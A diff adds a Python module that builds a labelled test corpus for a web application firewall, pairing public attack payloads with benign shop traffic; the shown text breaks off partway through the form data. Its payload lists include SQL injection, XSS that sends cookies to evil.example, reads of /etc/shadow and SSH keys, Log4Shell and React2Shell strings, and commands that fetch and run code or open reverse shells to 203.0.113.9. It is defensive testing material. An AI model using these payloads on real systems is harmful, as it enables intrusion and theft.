@@ -1,0 +1,1140 @@
+"""A labelled evaluation corpus for the WAF: attacks per category and benign traffic.
+
+    for r in attacks():          # CorpusRequest(category="sqli", method="GET", ...)
+        ...
+    benign()                     # what a real site sees: pages, assets, search, JSON, forms
+
+Attack payloads are public attack-pattern knowledge (OWASP testing guide and cheat sheets,
+PayloadsAllTheThings-style lists, CVE write-ups), each delivered in several ways: URL-encoded
+in the query, double-encoded, in a form body, in a JSON body, in a cookie or header, with case
+and comment evasions. The expansion is deterministic, so figures are comparable run to run.
+Benign requests cover pages, static assets, search queries with quotes and punctuation, JSON
+APIs, form posts with free text, cookies and real browser user agents. Used by
+`benchmarks/waf_eval.py` and the WAF tests; the load tests may draw attack traffic from it.
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+from urllib.parse import quote, urlencode
+
+from edgelab.policy.waf.engine import WafEngine, WafVerdict
+from edgelab.policy.waf.request import WafRequest
+
+CATEGORIES = ("sqli", "xss", "lfi", "rce", "scanner", "protocol")
+
+CHROME = (
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/124.0.0.0 Safari/537.36"
+)
+BROWSER_UAS = (
+    CHROME,
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+    "Version/17.4 Safari/605.1.15",
+    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.67",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 "
+    "(KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
+    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/124.0.6367.82 Mobile Safari/537.36",
+    "Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.4; rv:125.0) Gecko/20100101 Firefox/125.0",
+    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+    "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+    "CriOS/124.0.6367.88 Mobile/15E148 Safari/604.1",
+)
+
+
+@dataclass(frozen=True)
+class CorpusRequest:
+    category: str
+    """An attack category from CATEGORIES, or `benign`."""
+    method: str = "GET"
+    path: str = "/"
+    query: str = ""
+    headers: dict[str, str] = field(default_factory=dict)
+    body: bytes | None = None
+    note: str = ""
+    """The payload and how it was delivered, for reports of what was missed."""
+
+
+def _headers(ua: str = CHROME, **extra: str) -> dict[str, str]:
+    h = {
+        "Host": "shop.example.com",
+        "User-Agent": ua,
+        "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+        "Accept-Language": "en-GB,en;q=0.9",
+        "Accept-Encoding": "gzip, deflate, br",
+    }
+    h.update({k.replace("_", "-"): v for k, v in extra.items()})
+    return h
+
+
+def _form(category: str, path: str, fields: dict[str, str], note: str, **hdr: str) -> CorpusRequest:
+    body = urlencode(fields).encode()
+    headers = _headers(**hdr)
+    headers["Content-Type"] = "application/x-www-form-urlencoded"
+    headers["Content-Length"] = str(len(body))
+    return CorpusRequest(category, "POST", path, "", headers, body, note)
+
+
+def _json(category: str, path: str, doc: object, note: str, **hdr: str) -> CorpusRequest:
+    body = json.dumps(doc).encode()
+    headers = _headers(**hdr)
+    headers["Content-Type"] = "application/json"
+    headers["Content-Length"] = str(len(body))
+    return CorpusRequest(category, "POST", path, "", headers, body, note)
+
+
+# -- attack payloads (public knowledge), per category ---------------------------------------
+
+SQLI = (
+    "1' OR '1'='1",
+    "1' OR '1'='1' -- ",
+    "admin'--",
+    "admin' #",
+    "' OR 1=1--",
+    '" OR ""="',
+    "1 OR 1=1",
+    "' OR 'x'='x",
+    "1' AND 1=2 UNION SELECT NULL,NULL--",
+    "-1 UNION SELECT username, password FROM users",
+    "1 UNION ALL SELECT NULL,version(),NULL--",
+    "' UNION SELECT table_name FROM information_schema.tables--",
+    "1; DROP TABLE users--",
+    "1'; EXEC master..xp_cmdshell 'ping 10.0.0.1'--",
+    "1 AND SLEEP(5)",
+    "1' AND SLEEP(5) AND '1'='1",
+    "1; WAITFOR DELAY '0:0:5'--",
+    "1' AND (SELECT pg_sleep(5))--",
+    "1 AND BENCHMARK(5000000,MD5(1))",
+    "1' AND extractvalue(1,concat(0x7e,(SELECT user())))--",
+    "1 AND updatexml(1,concat(0x7e,database()),1)",
+    "' AND 1=CONVERT(int,(SELECT @@version))--",
+    "1' ORDER BY 10--",
+    "1' GROUP BY 1,2,3--",
+    "' HAVING 1=1--",
+    "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
+    "1' AND IF(1=1,SLEEP(3),0)--",
+    "' UNION SELECT load_file('/etc/passwd')--",
+    "1' INTO OUTFILE '/var/www/shell.php'--",
+    "1 or sleep(5)#",
+    "') OR ('a'='a",
+    "1' OR '1'='1' /*",
+    "' or 1 in (select @@version)--",
+    "1;SELECT * FROM users WHERE 't'='t",
+    "1 AND 1=(SELECT COUNT(*) FROM sysobjects)",
+    "' AND 1=(SELECT TOP 1 name FROM sys.tables)--",
+    "x' AND email IS NULL; --",
+    "1 UNION SELECT 1,group_concat(column_name) FROM information_schema.columns",
+    "' OR username LIKE '%admin%",
+    "1' and substr(version(),1,1)='5",
+)
+
+XSS = (
+    "<script>alert(1)</script>",
+    "<script src=//evil.example/x.js></script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert(document.cookie)>",
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert`1`>",
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=prompt(1)>",
+    '" onmouseover="alert(1)',
+    "' autofocus onfocus=alert(1) x='",
+    "javascript:alert(document.domain)",
+    "JaVaScRiPt:alert(1)",
+    '<a href="javascript:alert(1)">click</a>',
+    "<details open ontoggle=alert(1)>",
+    "<input onfocus=alert(1) autofocus>",
+    "<video><source onerror=alert(1)>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<object data="javascript:alert(1)">',
+    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
+    "<marquee onstart=alert(1)>",
+    '<div style="background:url(javascript:alert(1))">',
+    '<base href="//evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    "';alert(String.fromCharCode(88,83,83))//",
+    '";alert(1);//',
+    "</script><script>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
+    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<form action=javascript:alert(1)><input type=submit>",
+    "<isindex action=javascript:alert(1) type=image>",
+    "{{constructor.constructor('alert(1)')()}}",
+    '<img src="x" onerror="eval(atob(\'YWxlcnQoMSk=\'))">',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    "<script>document.location='//evil.example/?c='+document.cookie</script>",
+    "<svg><script>alert&#40;1&#41;</script>",
+)
+
+LFI = (
+    "../../../../etc/passwd",
+    "../../../../../../etc/shadow",
+    "..\\..\\..\\windows\\win.ini",
+    "....//....//....//etc/passwd",
+    "..%2f..%2f..%2fetc%2fpasswd",
+    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+    "..%252f..%252f..%252fetc%252fpasswd",
+    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
+    "/etc/passwd",
+    "/etc/passwd%00.jpg",
+    "C:\\Windows\\System32\\drivers\\etc\\hosts",
+    "C:/boot.ini",
+    "/proc/self/environ",
+    "/proc/self/cmdline",
+    "php://filter/convert.base64-encode/resource=index.php",
+    "php://filter/read=string.rot13/resource=config.php",
+    "php://input",
+    "file:///etc/passwd",
+    "expect://id",
+    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
+    "zip://uploads/avatar.zip#shell.php",
+    "phar://uploads/avatar.jpg/shell.php",
+    "../../../../var/www/html/wp-config.php",
+    "../.git/config",
+    "..;/..;/WEB-INF/web.xml",
+    "/var/lib/mysql/my.cnf",
+    "../../../../home/user/.ssh/id_rsa",
+    "../../../../root/.bash_history",
+    "http://203.0.113.66/shell.txt?",
+    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+    "\\\\203.0.113.66\\share\\shell.php",
+    "..%5c..%5c..%5cwindows%5csystem.ini",
+)
+
+LFI_PATHS = (
+    "/static/../../../../etc/passwd",
+    "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
+    "/images/..%2f..%2f..%2fetc%2fshadow",
+    "/.env",
+    "/.git/config",
+    "/.git/HEAD",
+    "/wp-config.php.bak",
+    "/config/database.yml",
+    "/backup.sql",
+    "/.aws/credentials",
+    "/server-status/../../etc/passwd",
+    "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
+    "/.htpasswd",
+    "/web.config",
+    "/app/.DS_Store",
+    "/.ssh/id_rsa",
+)
+
+RCE = (
+    "; cat /etc/passwd",
+    "| id",
+    "|| whoami",
+    "& ping -c 4 203.0.113.9",
+    "&& uname -a",
+    "`id`",
+    "$(whoami)",
+    "$(curl http://203.0.113.9/x.sh | sh)",
+    "; wget http://203.0.113.9/bot -O /tmp/bot; chmod +x /tmp/bot; /tmp/bot",
+    "127.0.0.1; nc -e /bin/sh 203.0.113.9 4444",
+    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+    ";cat${IFS}/etc/passwd",
+    "; /bin/bash -c 'id'",
+    "| powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
+    "& cmd.exe /c dir C:\\",
+    "| net user hacker P@ss /add",
+    "; certutil -urlcache -split -f http://203.0.113.9/x.exe x.exe",
+    "<?php system($_GET['c']); ?>",
+    "<?php echo shell_exec('id'); ?>",
+    "<?= `id` ?>",
+    "phpinfo()",
+    "system('id')",
+    "eval(base64_decode('cGhwaW5mbygpOw=='))",
+    "${jndi:ldap://203.0.113.9:1389/Exploit}",
+    "${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}",
+    "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.9/a}",
+    "${jndi:dns://x.oast.example/a}",
+    "{{7*7}}",
+    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
+    "{{''.__class__.__mro__[1].__subclasses__()}}",
+    "${7*7}",
+    "<%= 7*7 %>",
+    "#{7*7}",
+    "${T(java.lang.Runtime).getRuntime().exec('id')}",
+    "%{(#_='multipart/form-data').(#cmd='id')}",
+    'O:8:"stdClass":1:{s:4:"exec";s:2:"id";}',
+    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
+    "; sleep 10",
+    "$(sleep 10)",
+    "a;python3 -c 'import os;os.system(\"id\")'",
+)
+
+SCANNER_UAS = (
+    "sqlmap/1.7.2#stable (https://sqlmap.org)",
+    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
+    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
+    "Mozilla/5.0 (X11; Linux x86_64) Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
+    "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
+    "gobuster/3.6",
+    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
+    "Fuzz Faster U Fool v2.1.0-dev",
+    "Wfuzz/3.1.0",
+    "Mozilla/5.0 (compatible; Nessus)",
+    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) Acunetix",
+    "w3af.org",
+    "Mozilla/5.0 zgrab/0.x",
+    "Havij",
+    "Mozilla/5.0 (compatible; OpenVAS)",
+    "Arachni/v1.5.1",
+    "Mozilla/5.0 (Windows NT 10.0) Netsparker",
+    "commix/v3.8 (https://commixproject.com)",
+    "XSStrike",
+    "feroxbuster/2.10.1",
+    "ZmEu",
+    "Morfeus Fucking Scanner",
+    "Mozilla/5.0 (compatible; OWASP ZAP/2.14)",
+    "joomscan",
+    "WhatWeb/0.5.5",
+    "skipfish/2.10b",
+    "Hydra v9.5 (https://github.com/vanhauser-thc/thc-hydra)",
+    "dotdotpwn v3.0",
+    "fimap/1.00",
+)
+
+SCANNER_PATHS = (
+    "/w00tw00t.at.ISC.SANS.DFind:)",
+    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+    "/phpmyadmin/scripts/setup.php",
+    "/HNAP1/",
+    "/boaform/admin/formLogin",
+    "/manager/html",
+    "/jmx-console/",
+    "/solr/admin/cores?action=STATUS",
+    "/actuator/gateway/routes",
+    "/cgi-bin/php5",
+    "/muieblackcat",
+    "/nessustest",
+)
+
+
+def _attack_values(category: str, payloads: tuple[str, ...], arg: str) -> Iterator[CorpusRequest]:
+    """Each payload through several deliveries, rotating so every delivery is used."""
+    deliveries: list[Callable[[str], CorpusRequest]] = [
+        lambda p: CorpusRequest(
+            category,
+            "GET",
+            "/search",
+            f"{arg}={quote(p, safe='')}",
+            _headers(),
+            None,
+            f"query: {p}",
+        ),
+        lambda p: CorpusRequest(
+            category,
+            "GET",
+            "/page/1",
+            f"{arg}={quote(quote(p, safe=''), safe='')}",
+            _headers(),
+            None,
+            f"double-encoded query: {p}",
+        ),
+        lambda p: _form(category, "/login", {"user": "alice", arg: p}, f"form body: {p}"),
+        lambda p: _json(
+            category, "/api/items", {"name": "widget", "filter": {arg: p}}, f"json body: {p}"
+        ),
+        lambda p: CorpusRequest(
+            category,
+            "GET",
+            "/account",
+            "",
+            _headers(Cookie=f"session=abc123; pref={quote(p, safe='')}"),
+            None,
+            f"cookie: {p}",
+        ),
+        lambda p: CorpusRequest(
+            category,
+            "GET",
+            "/products",
+            f"sort=price&{arg}={quote(p.upper() if category != 'lfi' else p, safe='=')}",
+            _headers(),
+            None,
+            f"upper-case query: {p}",
+        ),
+    ]
+    for i, payload in enumerate(payloads):
+        for k in range(3):
+            yield deliveries[(i + k * 2) % len(deliveries)](payload)
+
+
+def _sqli_evasions() -> Iterator[CorpusRequest]:
+    """Comment splitting, versioned comments, newlines, hex and char() obfuscation."""
+    for p in (
+        "1/**/UNION/**/SELECT/**/1,2,3",
+        "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
+        "1%0aUNION%0aSELECT%0a1,2",
+        "-1 uNiOn sElEcT 1,concat(0x3a,user()),3",
+        "1' || '1'='1",
+        "1' %26%26 '1'='1",
+        "admin' or 1=1 limit 1 -- -",
+        "1'%20AnD%20SlEeP(3)%23",
+        "%27%20OR%20%271%27%3D%271",
+        "1+UNION+SELECT+1,2,3",
+    ):
+        yield CorpusRequest("sqli", "GET", "/item", f"id={p}", _headers(), None, f"evasion: {p}")
+
+
+def _xss_evasions() -> Iterator[CorpusRequest]:
+    for p in (
+        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+        "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "%26lt%3Bsvg%20onload%3Dalert(1)%26gt%3B",
+        "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
+        "\\u003cimg src=x onerror=alert(1)\\u003e",
+        "%3Cimg%0Asrc%3Dx%0Aonerror%3Dalert(1)%3E",
+        "<sCrIpT>alert(1)</ScRiPt>",
+        "%u003cscript%u003ealert(1)%u003c/script%u003e",
+        "<svg%0Aonload=alert(1)>",
+    ):
+        yield CorpusRequest("xss", "GET", "/search", f"q={p}", _headers(), None, f"evasion: {p}")
+    yield CorpusRequest(
+        "xss",
+        "GET",
+        "/",
+        "",
+        _headers(Referer='https://x.example/"><script>alert(1)</script>'),
+        None,
+        "referer",
+    )
+    yield CorpusRequest(
+        "xss", "GET", "/", "", _headers(ua="<script>alert(1)</script>"), None, "user-agent"
+    )
+
+
+def _lfi_extra() -> Iterator[CorpusRequest]:
+    for p in LFI_PATHS:
+        yield CorpusRequest("lfi", "GET", p, "", _headers(), None, f"path: {p}")
+    for p in (
+        "..%2F..%2F..%2Fetc%2Fpasswd",
+        "%2e%2e%5c%2e%2e%5cwindows%5cwin.ini",
+        "....%2f....%2fetc%2fpasswd",
+        "%u002e%u002e%u2215etc%u2215passwd",
+    ):
+        yield CorpusRequest(
+            "lfi", "GET", "/download", f"file={p}", _headers(), None, f"raw-encoded: {p}"
+        )
+
+
+def _rce_extra() -> Iterator[CorpusRequest]:
+    for ua in (
+        "${jndi:ldap://203.0.113.9/a}",
+        "() { :; }; /bin/bash -c 'cat /etc/passwd'",
+        "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}",
+    ):
+        yield CorpusRequest("rce", "GET", "/", "", _headers(ua=ua), None, f"user-agent: {ua}")
+    yield CorpusRequest(
+        "rce",
+        "GET",
+        "/",
+        "",
+        _headers(X_Api_Version="${jndi:ldap://203.0.113.9/a}"),
+        None,
+        "header: log4shell",
+    )
+    # React2Shell (CVE-2025-55182): the React Server Components action payload.
+    rsc = {
+        "then": "$1:__proto__:then",
+        "status": "resolved_model",
+        "reason": -1,
+        "value": '{"then":"$B1337"}',
+        "_response": {
+            "_prefix": "process.mainModule.require('child_process').execSync('id');",
+            "_formData": {"get": "$1:constructor:constructor"},
+        },
+    }
+    yield _json("rce", "/", rsc, "react2shell json", Next_Action="7f3a")
+    yield _form(
+        "rce", "/", {"0": json.dumps(rsc), "1": '"$@0"'}, "react2shell form", Next_Action="7f3a"
+    )
+    yield CorpusRequest(
+        "rce", "GET", "/", "__proto__[isAdmin]=true", _headers(), None, "prototype pollution"
+    )
+    yield CorpusRequest(
+        "rce",
+        "GET",
+        "/",
+        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
+        _headers(),
+        None,
+        "spring4shell",
+    )
+
+
+def _scanners() -> Iterator[CorpusRequest]:
+    for i, ua in enumerate(SCANNER_UAS):
+        path = ("/", "/admin", "/login", "/wp-login.php", "/index.php?id=1")[i % 5]
+        p, _, q = path.partition("?")
+        yield CorpusRequest("scanner", "GET", p, q, _headers(ua=ua), None, f"user-agent: {ua}")
+    for path in SCANNER_PATHS:
+        p, _, q = path.partition("?")
+        yield CorpusRequest(
+            "scanner", "GET", p, q, _headers(ua="Mozilla/5.0"), None, f"probe: {path}"
+        )
+    for name, value in (
+        ("Acunetix-Product", "WVS/12.0"),
+        ("X-Scanner", "Netsparker"),
+        ("Acunetix-Scanning-agreement", "Third Party Scanning PROHIBITED"),
+    ):
+        yield CorpusRequest(
+            "scanner",
+            "GET",
+            "/",
+            "",
+            _headers(**{name.replace("-", "_"): value}),
+            None,
+            f"header: {name}",
+        )
+
+
+def _protocol() -> Iterator[CorpusRequest]:
+    for m in ("TRACE", "TRACK", "DEBUG", "CONNECT"):
+        yield CorpusRequest("protocol", m, "/", "", _headers(), None, f"method {m}")
+    yield CorpusRequest(
+        "protocol", "GET", "/", "", _headers(Content_Length="11"), b"hello=world", "GET with body"
+    )
+    yield CorpusRequest(
+        "protocol", "HEAD", "/", "", _headers(Content_Length="4"), b"a=bc", "HEAD with body"
+    )
+    for q in (
+        "lang=en%0d%0aSet-Cookie:%20session=attacker",
+        "next=%0d%0aLocation:%20https://evil.example/",
+        "q=%0aContent-Length:%200%0a%0aHTTP/1.1%20200%20OK",
+        "x=%0d%0aX-Forwarded-For:%20127.0.0.1",
+        "file=report.pdf%00.php",
+        "name=admin%00",
+        "q=%250d%250aSet-Cookie:x=1",
+        "page=%252e%252e%252fadmin",
+        "x=GET%20/admin%20HTTP/1.1%0d%0aHost:%20internal",
+        "a=1&" + "&".join(f"p{i}=1" for i in range(300)),
+    ):
+        yield CorpusRequest("protocol", "GET", "/page/2", q, _headers(), None, f"query: {q[:60]}")
+    for name, value in (
+        ("Proxy", "http://203.0.113.9:8080"),
+        ("X-Original-URL", "/admin"),
+        ("X-Rewrite-URL", "/admin/users"),
+        ("Lock-Token", "<opaquelocktoken:x>"),
+        ("Content-Range", "bytes 0-10/20"),
+    ):
+        yield CorpusRequest(
+            "protocol",
+            "GET",
+            "/",
+            "",
+            _headers(**{name.replace("-", "_"): value}),
+            None,
+            f"header: {name}",
+        )
+    for host in ("203.0.113.80", "127.0.0.1:8080"):
+        h = _headers()
+        h["Host"] = host
+        yield CorpusRequest(
+            "protocol", "GET", "/admin", "", h, None, f"numeric host {host} + admin"
+        )
+    body = b"a=1\r\n\r\nPOST /admin HTTP/1.1\r\nHost: internal\r\n\r\n"
+    yield CorpusRequest(
+        "protocol",
+        "POST",
+        "/login",
+        "",
+        {
+            **_headers(),
+            "Content-Type": "application/x-www-form-urlencoded",
+            "Content-Length": str(len(body)),
+        },
+        body,
+        "smuggled request in body",
+    )
+
+
+def attacks() -> list[CorpusRequest]:
+    """Every attack request, in a fixed order."""
+    out: list[CorpusRequest] = []
+    out += _attack_values("sqli", SQLI, "id")
+    out += _sqli_evasions()
+    out += _attack_values("xss", XSS, "q")
+    out += _xss_evasions()
+    out += _attack_values("lfi", LFI, "file")
+    out += _lfi_extra()
+    out += _attack_values("rce", RCE, "host")
+    out += _rce_extra()
+    out += _scanners()
+    out += _protocol()
+    return out
+
+
+# -- benign traffic ---------------------------------------------------------------------------
+
+PAGES = (
+    "/",
+    "/index.html",
+    "/about",
+    "/about/team",
+    "/contact",
+    "/blog",
+    "/blog/2024/05/how-we-roast-coffee",
+    "/blog/2023/11/why-we-moved-to-postgres",
+    "/products",
+    "/products/espresso-machine-pro-2",
+    "/products/cold-brew-kit",
+    "/category/kitchen/coffee",
+    "/cart",
+    "/checkout",
+    "/account/orders",
+    "/account/settings",
+    "/help/shipping-and-returns",
+    "/help/faq",
+    "/careers/senior-sre",
+    "/legal/privacy",
+    "/legal/terms-of-service",
+    "/page/12",
+    "/page/13",
+    "/docs/api/v2/authentication",
+    "/docs/getting-started",
+    "/docs/reference/config-file",
+    "/news/2024-q1-results",
+    "/events/berlin-2024",
+    "/u/alice",
+    "/u/bob.smith",
+    "/tags/open-source",
+    "/store/locations/london-soho",
+)
+
+ASSETS = (
+    "/static/app.js",
+    "/static/app.3f9a1c.js",
+    "/static/vendor.min.js",
+    "/static/css/site.css",
+    "/static/css/print.css",
+    "/static/img/logo.svg",
+    "/static/img/hero@2x.png",
+    "/static/fonts/inter-var.woff2",
+    "/favicon.ico",
+    "/robots.txt",
+    "/sitemap.xml",
+    "/manifest.webmanifest",
+    "/apple-touch-icon.png",
+    "/static/img/products/espresso-machine-pro-2_800x800.jpg",
+    "/static/js/chunks/412.8c2d.js",
+    "/static/video/intro.mp4",
+    "/static/docs/user-guide-v3.pdf",
+    "/.well-known/security.txt",
+    "/static/img/team/o-reilly.jpg",
+    "/static/css/theme.dark.css",
+)
+
+SEARCHES = (
+    "espresso machine",
+    "O'Reilly books",
+    '"cold brew" kit',
+    "men's running shoes size 10",
+    "kids' toys under $20",
+    "rock 'n' roll t-shirt",
+    "AT&T phone plans",
+    "50% off sale",
+    "C++ programming",
+    "C# vs Java",
+    "node.js tutorial",
+    "what is 2+2?",
+    "how to fix error 404",
+    "best laptop 2024 (13 inch)",
+    "iphone 15 pro - case",
+    "café au lait",
+    "naïve bayes",
+    "1/2 inch drill bit",
+    "5 < 6 math worksheet",
+    "select committee report",
+    "union jack flag",
+    "drop-down menu css",
+    "update firmware router",
+    "delete my account",
+    "insert coin sound effect",
+    "where is my order #12345",
+    "100% cotton sheets",
+    "salt & pepper shakers",
+    "tom & jerry",
+    "co-op games; multiplayer",
+    "ben & jerry's ice cream",
+    '"quoted phrase" -excluded',
+    "price: $10-$20",
+    "email@example.com",
+    "https://example.com/product/123",
+    "wait... what",
+    "emoji 😀 socks",
+    "größe 42 schuhe",
+    "東京 ホテル",
+    "l'été à paris",
+    "it's a wonderful life",
+    "sleep tracker watch",
+    "cat toys",
+    "ls engine swap",
+    "id card holder",
+    "ping pong table",
+    "javascript: the good parts",
+    "script writing course",
+    "onload event handler tutorial",
+    "1=1 matching pairs",
+    "or/and logic gates",
+    "<3 valentine's card",
+    "table for 2 at 7pm",
+    "passwd reset help",
+    "system requirements",
+    "exec chair",
+    "bash birthday party ideas",
+    "sql for beginners",
+    "from paris to london",
+    "having fun quotes",
+    "order by date",
+    "50/50 raffle",
+    "net promoter score",
+    "win.ini meaning",
+    "etc etc",
+    "alert sound iphone",
+    "prompt engineering",
+    "confirm email address",
+    "document shredder",
+    "window cleaner",
+)
+
+COMMENTS = (
+    "Great product! Arrived quickly and works exactly as described.",
+    "I'd love to see more colours -- maybe a dark green? Thanks!",
+    'Doesn\'t fit my 2019 model; the description should say "2020+ only".',
+    "Price: $49.99 & free shipping over $50. Worth it? Absolutely.",
+    "My order (#A-20931) hasn't shipped yet; can you check?",
+    "Tried it with oat milk & it's fine, 4/5 stars.",
+    "Please select the size from the drop-down before adding to cart.",
+    "We had a union meeting and everyone agreed: best coffee in the office!",
+    "Line one\nLine two\nLine three with a tab\tand more.",
+    "Use the <b>bold</b> button in the editor, not asterisks.",
+    "I paid 100% of the invoice on 2024-03-01; reference: INV/2024/0042.",
+    "Order by Friday for delivery on Monday, or choose express.",
+    "Hi team, the link https://shop.example.com/cart?item=12&qty=2 gives an error.",
+    "Is this compatible with Windows 11 and macOS 14?",
+    "5 * 3 = 15, so the total for five boxes is £15.",
+    "He said \"it's the best\" -- I'm not so sure :-)",
+    "My email is jane.doe+shop@example.co.uk, please update it.",
+    "Drop me a line if you need more details; happy to help.",
+    "The command-line tool prints 'OK' when done.",
+    "Kudos to the delivery driver; left it by the door as asked.",
+    "Ich hätte gerne eine Rechnung mit MwSt.",
+    "Où est ma commande ? Merci d'avance.",
+    "Rated 10/10 -- would buy again!!!",
+    "If (like me) you grind fresh, use setting 12-14.",
+    "Is there a discount for orders of 10+ units?",
+    "The update from version 2.1 to 2.2 fixed the noise issue.",
+    "Cancel my subscription; I'm moving abroad.",
+    "Product #42 and #43 are both out of stock -- any ETA?",
+    "Replace the filter every 3 months (or sooner with hard water).",
+    "Just wanted to say: thank you! <3",
+)
+
+COOKIES = (
+    "_ga=GA1.2.1283749283.1714035000; _gid=GA1.2.998877665.1714035000",
+    "session=eyJ1c2VyIjoiYWxpY2UiLCJyb2xlIjoidXNlciJ9.ZkQ1aw.abcDEF123_-x; theme=dark",
+    "OptanonConsent=isGpcEnabled=0&datestamp=Thu+Apr+25+2024+10%3A00%3A00+GMT%2B0100&version=202401.1.0&groups=C0001%3A1%2CC0002%3A0",
+    "cart_id=8f14e45f-ceea-467f-a0e6-1b5c2d3e4f5a; currency=GBP; lang=en-GB",
+    "_fbp=fb.1.1714035000000.1234567890; _gcl_au=1.1.123456789.1714035000",
+    "csrftoken=Q8sZk2v9XyTq3LmN7pR1aB4cD6eF8gH0; sessionid=3k2j4h5g6f7d8s9a0",
+    "__cf_bm=abcdefGHIJ1234567890.-_abcdef-1714035000-0-AbCdEf==; cf_clearance=xyz.123-456",
+    "recently_viewed=12%2C44%2C91; ab_test=variant_b",
+)
+
+API_DOCS = (
+    {
+        "query": "espresso",
+        "filters": {"price": {"min": 10, "max": 200}, "in_stock": True},
+        "sort": "-rating",
+    },
+    {"items": [{"sku": "ESP-PRO-2", "qty": 1}, {"sku": "FLT-100", "qty": 3}], "coupon": "SPRING24"},
+    {"email": "jane.doe@example.com", "password": "correct horse battery staple", "remember": True},
+    {
+        "name": "Jane O'Neil",
+        "address": {"line1": "12 Baker's Row", "city": "London", "postcode": "NW1 6XE"},
+    },
+    {
+        "review": {
+            "rating": 4,
+            "title": "Good, not great",
+            "body": "Works well -- but it's loud. 4/5.",
+        }
+    },
+    {
+        "event": "page_view",
+        "path": "/products/cold-brew-kit",
+        "referrer": "https://www.google.com/",
+        "ts": 1714035000123,
+    },
+    {
+        "operationName": "GetProduct",
+        "variables": {"id": "UHJvZHVjdDo0Mg=="},
+        "query": "query GetProduct($id: ID!) { product(id: $id) { name price } }",
+    },
+    {"message": "Hi! Can I change my delivery address? I moved to 5 Elm St. (flat 2)."},
+    {
+        "settings": {
+            "notifications": {"email": True, "sms": False},
+            "language": "fr-FR",
+            "timezone": "Europe/Paris",
+        }
+    },
+    {"search": "men's shoes", "page": 2, "per_page": 48, "facets": ["brand", "size", "colour"]},
+    {"amount": 49.99, "currency": "EUR", "description": "Order #A-20931 (2 items)"},
+    {"tags": ["open-source", "c++", "rust"], "title": "Why we rewrote our proxy", "draft": False},
+)
+
+FORMS = (
+    {
+        "name": "Alice Martin",
+        "email": "alice@example.com",
+        "subject": "Question about my order",
+        "message": "",
+    },
+    {"username": "bob.smith", "password": "Tr0ub4dor&3", "remember": "on"},
+    {"q": "", "category": "all", "sort": "relevance"},
+    {
+        "first_name": "Seán",
+        "last_name": "O'Connor",
+        "phone": "+353 1 234 5678",
+        "newsletter": "yes",
+    },
+    {
